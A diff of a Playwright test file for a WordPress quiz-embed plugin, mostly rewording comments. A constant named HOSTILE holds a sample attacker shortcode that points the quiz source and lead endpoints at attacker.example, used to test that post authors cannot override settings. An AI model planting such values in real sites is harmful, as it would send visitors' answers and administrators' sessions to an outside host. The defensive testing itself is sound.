@@ -9,7 +9,9 @@ const QUIZ = process.env['QUIZ'] ?? 'http://127.0.0.1:4540'
 
 test.describe.configure({ mode: 'serial' })
 
-/** The default roles of WordPress, each with one test user. Name and password of the user are the role. */
+/**
+ * The default roles of WordPress. Each role has one test user, whose user name and password are the name of the role.
+ */
 const ROLES = ['admin', 'editor', 'author', 'contributor', 'subscriber'] as const
 type Role = (typeof ROLES)[number]
 
@@ -82,7 +84,8 @@ test('without settings a pasted quiz URL becomes a working sandboxed frame', asy
   await answerOne(frame)
   await shot(page, 'pasted-question')
   expect(await element.evaluate((one) => one.getBoundingClientRect().height)).toBeLessThanOrEqual(1000)
-  // A sandboxed frame cannot open a page, so it shows the link with the answers for the visitor to copy.
+  // A sandboxed frame cannot open a new window. Its button therefore shows the URL with the answers, for the visitor
+  // to copy.
   const foot = frame.getByRole('contentinfo')
   await foot.getByRole('link', { name: 'Open in a full page' }).click()
   const field = foot.getByRole('textbox')
@@ -90,7 +93,7 @@ test('without settings a pasted quiz URL becomes a working sandboxed frame', asy
   await expect(field).toHaveValue(/\/report\/#r=1/)
   await shot(page, 'pasted-full-page')
   expect(page.url()).toBe(address)
-  // For a link without answers, the frame asks WordPress to open the URL in the whole window.
+  // For a link without answers, the frame asks WordPress to load the URL in place of the whole page.
   await foot.getByRole('link', { name: 'Privacy' }).click()
   await page.waitForURL(`${QUIZ}/privacy/`, { timeout: 15_000 })
 })
@@ -136,7 +139,7 @@ test('the settings page saves valid values, rejects others and escapes markup', 
   await expect(page.locator('.notice-success')).toBeVisible()
 })
 
-/** Settings that the author of a post must not override, as a shortcode and as a block. */
+/** An attack by the author of a post: settings that the author must not override, as a shortcode and as a block. */
 const HOSTILE = {
   shortcode:
     '[responsibility_check brand="Own" src="https://attacker.example/" lead_endpoint="https://attacker.example/a" lead-endpoint="https://attacker.example/b" privacy="https://attacker.example/p" results="answers"]',
@@ -150,7 +153,7 @@ for (const role of ROLES.filter((one) => one !== 'subscriber')) {
       const status = role === 'contributor' ? 'pending' : 'publish'
       await logIn(page, role)
       const address = await save(page, 'post', { title: `${role} ${kind}`, content, status })
-      // An administrator opens the post, because an attacker would want the administrator's session.
+      // An administrator views the post, because an attacker would want the administrator's session.
       await logIn(page, 'admin')
       const asked: string[] = []
       page.on('request', (request) => asked.push(request.url()))
@@ -199,7 +202,7 @@ test('the shortcode of an editor who may save no scripts shows the quiz', async 
   expect(html).not.toContain('elsewhere.example')
   expect(html.match(/embed\/v1\.js/g)).toHaveLength(1)
   expect(html).toMatch(/<script[^>]+embed\/v1\.js"[^>]* async/)
-  // The plugin reserves this height. The loader releases the part that the quiz does not need.
+  // The plugin reserves a height of 780px. After loading, the loader sets the height that the quiz needs.
   expect(html).toContain('style="display:block;min-height:780px"')
   await page.goto(address)
   const element = page.locator('responsibility-check')
